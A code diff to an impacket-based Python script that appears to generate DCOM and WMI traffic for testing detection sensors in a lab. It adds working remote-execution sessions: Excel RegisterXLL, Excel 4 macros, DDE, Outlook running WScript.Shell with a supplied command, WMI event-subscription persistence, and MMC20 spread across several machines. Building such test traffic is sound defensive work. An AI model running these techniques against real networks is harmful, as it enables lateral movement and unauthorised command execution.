@@ -2,16 +2,37 @@
 
 import argparse
 import contextlib
+import time
+from pathlib import Path
 
-from impacket.dcerpc.v5 import dcomrt, epm, transport
+from impacket.dcerpc.v5 import dcomrt, epm, rrp, transport
 from impacket.dcerpc.v5.dcom import oaut, wmi
 from impacket.dcerpc.v5.dtypes import NULL
 from impacket.uuid import string_to_bin, uuidtup_to_bin
 
-from dcom_server.world import EXCEL, LAB_INVENTORY, MMC20, SHELL_WINDOWS, SVCCTL
+import type_info
+from dcom_server.world import (
+    ABSENT,
+    EXCEL,
+    FILE_SYSTEM_IMAGE,
+    HTAFILE,
+    LAB_INVENTORY,
+    MMC20,
+    OUTLOOK,
+    SHELL_WINDOWS,
+    STDFONT,
+    SVCCTL,
+    WBEM_LOGIN,
+    WORDPAD,
+)
+from scenarios import CLIENT, CLIENT_OXID
 
 LOCALE = 0x409
 UNKNOWN_OXID = 0x1234
+DISPID_PROPERTYPUT = -3
+# Longer than a sensor waits for a call on an object.
+IDLE_SECONDS = 32
+WMI_STUBS = Path(__file__).resolve().parents[2] / "parsers/corpus/wmi"
 
 
 def connect(options):
@@ -26,32 +47,51 @@ def create(dcom, clsid):
     return oaut.IDispatch(dcom.CoCreateInstanceEx(string_to_bin(clsid), oaut.IID_IDispatch))
 
 
-def arguments(*texts):
-    """DISPPARAMS of strings, in reverse order as they travel."""
+def arguments(*values):
+    """DISPPARAMS of strings and numbers, in reverse order as they travel."""
     params = oaut.DISPPARAMS(None, False)
     params["rgdispidNamedArgs"] = NULL
-    params["cArgs"], params["cNamedArgs"] = len(texts), 0
-    if not texts:
+    params["cArgs"], params["cNamedArgs"] = len(values), 0
+    if not values:
         params["rgvarg"] = NULL
-    for text in reversed(texts):
+    for value in reversed(values):
+        kind = oaut.VARENUM.VT_BSTR if isinstance(value, str) else oaut.VARENUM.VT_I4
         variant = oaut.VARIANT(None, False)
-        variant["clSize"], variant["vt"] = 5, oaut.VARENUM.VT_BSTR
-        variant["_varUnion"]["tag"] = oaut.VARENUM.VT_BSTR
-        variant["_varUnion"]["bstrVal"]["asData"] = text
+        variant["clSize"], variant["vt"] = 5, kind
+        variant["_varUnion"]["tag"] = kind
+        if isinstance(value, str):
+            variant["_varUnion"]["bstrVal"]["asData"] = value
+        else:
+            variant["_varUnion"]["lVal"] = value
         params["rgvarg"].append(variant)
     return params
 
 
-def method(obj, name, *texts):
+def method(obj, name, *values):
     """Call a method by name."""
     dispid = obj.GetIDsOfNames((name,))[0]
-    return obj.Invoke(dispid, LOCALE, oaut.DISPATCH_METHOD, arguments(*texts), 0, [], [])
+    return obj.Invoke(dispid, LOCALE, oaut.DISPATCH_METHOD, arguments(*values), 0, [], [])
+
+
+def put(obj, name, value):
+    """Set a property."""
+    dispid = obj.GetIDsOfNames((name,))[0]
+    params, named = arguments(value), oaut.DISPID()
+    named["Data"] = DISPID_PROPERTYPUT
+    params["cNamedArgs"] = 1
+    params["rgdispidNamedArgs"] = [named]
+    return obj.Invoke(dispid, LOCALE, oaut.DISPATCH_PROPERTYPUT, params, 0, [], [])
 
 
 def get(parent, name):
     """The object that a property holds."""
     dispid = parent.GetIDsOfNames((name,))[0]
     answer = parent.Invoke(dispid, LOCALE, oaut.DISPATCH_PROPERTYGET, arguments(), 0, [], [])
+    return held(parent, answer)
+
+
+def held(parent, answer):
+    """The object that an answer of Invoke brings."""
     raw = b"".join(answer["pVarResult"]["_varUnion"]["pdispVal"]["abData"])
     instance, ipid = parent.get_cinstance(), parent.get_ipidRemUnknown()
     return oaut.IDispatch(dcomrt.INTERFACE(instance, raw, ipid, target=parent.get_target()))
@@ -76,6 +116,140 @@ def excel_dde(dcom, options):
     program, _, parameters = options.command.partition(" ")
     method(app, "DDEInitiate", program, parameters)
     method(app, "Quit")
+
+
+def excel_xll(dcom, options):
+    """Excel's RegisterXLL."""
+    method(create(dcom, EXCEL), "RegisterXLL", options.command)
+
+
+def excel_macro4(dcom, options):
+    """Excel's ExecuteExcel4Macro."""
+    method(create(dcom, EXCEL), "ExecuteExcel4Macro", options.command)
+
+
+def excel_foxpro(dcom, _options):
+    """Excel's ActivateMicrosoftApp, for a program that is no longer sold (xlMicrosoftFoxPro)."""
+    method(create(dcom, EXCEL), "ActivateMicrosoftApp", 5)
+
+
+def outlook_run(dcom, options):
+    """An object that Outlook makes inside the target, and its Run."""
+    app = create(dcom, OUTLOOK)
+    shell = held(app, method(app, "CreateObject", "WScript.Shell"))
+    method(shell, "Run", options.command)
+
+
+def file_system_image(dcom, options):
+    """A file system image that shall be made of a folder, wherever that is."""
+    put(create(dcom, FILE_SYSTEM_IMAGE), "workingdirectory", options.command)
+
+
+def trapped(dcom, _options):
+    """An object, its type information, and an object made out of that."""
+    font = create(dcom, STDFONT)
+    information = font.GetTypeInfo()
+    request = type_info.CreateInstance()
+    request["riid"] = oaut.IID_IDispatch
+    information.request(request, iid=oaut.IID_ITypeInfo, uuid=information.get_iPid())
+
+
+def type_information(dcom, _options):
+    """An object and its type information, as scripts ask for it."""
+    font = create(dcom, STDFONT)
+    font.GetTypeInfoCount()
+    font.GetTypeInfo()
+
+
+def trigger(dcom, _options):
+    """An object that is released, and a while in which nothing is called."""
+    create(dcom, WORDPAD).RemRelease()
+    time.sleep(IDLE_SECONDS)
+
+
+def trigger_and_call(dcom, _options):
+    """The same class, but used."""
+    app = create(dcom, WORDPAD)
+    get_text(app, "Title")
+    app.RemRelease()
+    time.sleep(IDLE_SECONDS)
+
+
+def get_text(obj, name):
+    """Read a property that is no object."""
+    dispid = obj.GetIDsOfNames((name,))[0]
+    obj.Invoke(dispid, LOCALE, oaut.DISPATCH_PROPERTYGET, arguments(), 0, [], [])
+
+
+def reverse(dcom, _options):
+    """A class that calls back, and the target's part played from its address: see `generate`."""
+    create(dcom, HTAFILE)
+    call_back()
+
+
+def callback(dcom, _options):
+    """The same with a class nobody abuses."""
+    create(dcom, LAB_INVENTORY)
+    call_back()
+
+
+def call_back():
+    """What a COM server does that was given an object of its client's."""
+    exporter = resolver(CLIENT)
+    exporter.ServerAlive2()
+    exporter.ResolveOxid2(CLIENT_OXID, (7,))
+
+
+def activate_wordpad(dcom, _options):
+    """Activation of WordPad's class, where that is asked for in an odd way."""
+    create(dcom, WORDPAD).RemRelease()
+
+
+def class_scan(dcom, _options):
+    """Several classes on one target, whether they exist or not."""
+    for clsid in ABSENT:
+        with contextlib.suppress(dcomrt.DCERPCSessionError):
+            create(dcom, clsid)
+
+
+def registry(dcom, options):
+    """An activation, then the registry."""
+    create(dcom, MMC20)
+    open_registry(options)
+
+
+def inventory(dcom, options):
+    """What inventories do: WMI, then the registry."""
+    dcom.CoCreateInstanceEx(string_to_bin(WBEM_LOGIN), wmi.IID_IWbemLevel1Login)
+    open_registry(options)
+
+
+def open_registry(options):
+    """Opens a root key over the pipe, and closes it."""
+    where = transport.DCERPCTransportFactory(f"ncacn_np:{options.target}[\\pipe\\winreg]")
+    where.set_credentials(options.user, options.password, options.domain)
+    dce = where.get_dce_rpc()
+    dce.connect()
+    dce.bind(rrp.MSRPC_UUID_RRP)
+    key = rrp.hOpenLocalMachine(dce)["phKey"]
+    rrp.hBaseRegCloseKey(dce, key)
+    dce.disconnect()
+
+
+def wmi_subscription(dcom, _options):
+    """A filter and a consumer with a command line, written as wmipersist.py does."""
+    login = wmi.IWbemLevel1Login(
+        dcom.CoCreateInstanceEx(wmi.CLSID_WbemLevel1Login, wmi.IID_IWbemLevel1Login)
+    )
+    services = login.NTLMLogin("//./root/subscription", NULL, NULL)
+    login.RemRelease()
+    services.connect(wmi.IID_IWbemServices)
+    dce = services.get_dce_rpc()
+    for name in ("event-filter", "command-line-consumer"):
+        stub = (WMI_STUBS / f"put-instance-{name}-request.bin").read_bytes()
+        dce.call(wmi.IWbemServices_PutInstance.opnum, stub, services.get_iPid())
+        dce.recv()
+    services.RemRelease()
 
 
 def benign(dcom, _options):
@@ -128,12 +302,33 @@ def wmi_login(dcom, _options):
     services.RemRelease()
 
 
-def server_alive(options):
-    """What OXID resolver scanners do: no authentication, each call on its own connection."""
-    binding = f"ncacn_ip_tcp:{options.target}[135]"
+def resolver(target):
+    """The OXID resolver of a machine, without authentication."""
+    binding = f"ncacn_ip_tcp:{target}[135]"
     dce = transport.DCERPCTransportFactory(binding).get_dce_rpc()
     dce.set_auth_level(1)
-    exporter = dcomrt.IObjectExporter(dce)
+    return dcomrt.IObjectExporter(dce)
+
+
+def resolver_sweep(options):
+    """ServerAlive2 of several machines."""
+    for target in options.target.split(","):
+        resolver(target).ServerAlive2()
+
+
+def spread(options):
+    """MMC20 on several machines, one after the other."""
+    for target in options.target.split(","):
+        dcom = dcomrt.DCOMConnection(
+            target, options.user, options.password, options.domain, oxidResolver=False
+        )
+        create(dcom, MMC20)
+        dcom.disconnect()
+
+
+def server_alive(options):
+    """What OXID resolver scanners do: no authentication, each call on its own connection."""
+    exporter = resolver(options.target)
     exporter.ServerAlive()
     exporter.ServerAlive2()
 
@@ -148,12 +343,30 @@ def ept_map(options):
     dce.disconnect()
 
 
-WITHOUT_LOGIN = {session.__name__: session for session in (server_alive, ept_map)}
+ON_THEIR_OWN = {
+    session.__name__: session for session in (server_alive, ept_map, resolver_sweep, spread)
+}
 SESSIONS = {
     session.__name__: session
     for session in (
         mmc20,
         excel_dde,
+        excel_xll,
+        excel_macro4,
+        excel_foxpro,
+        outlook_run,
+        file_system_image,
+        trapped,
+        type_information,
+        trigger,
+        trigger_and_call,
+        reverse,
+        callback,
+        activate_wordpad,
+        class_scan,
+        registry,
+        inventory,
+        wmi_subscription,
         benign,
         activate_mmc20,
         two_activations,
@@ -173,8 +386,8 @@ def run(name, argv):
     parser.add_argument("--domain", default="")
     parser.add_argument("--command", default="")
     options = parser.parse_args(argv)
-    if name in WITHOUT_LOGIN:
-        WITHOUT_LOGIN[name](options)
+    if name in ON_THEIR_OWN:
+        ON_THEIR_OWN[name](options)
         return
     dcom = connect(options)
     try:
